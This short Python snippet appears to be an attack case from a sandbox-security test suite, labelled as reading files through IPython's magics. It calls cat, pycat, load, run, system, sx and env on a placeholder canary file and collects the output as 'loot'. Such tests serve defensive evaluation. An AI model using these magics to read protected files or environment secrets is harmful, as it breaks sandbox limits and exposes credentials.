# attack: reads files by IPython's magics
# exercises: vertical_edge_kernel
# outcome: steals
shell = get_ipython()
for line in ("cat __CANARY__", "pycat __CANARY__", "load __CANARY__", "run __CANARY__", "system cat __CANARY__", "sx cat __CANARY__", "env"):
    name, _, rest = line.partition(" ")
    try:
        loot.append(str(shell.run_line_magic(name, rest)))
    except BaseException as error:
        loot.append(type(error).__name__)
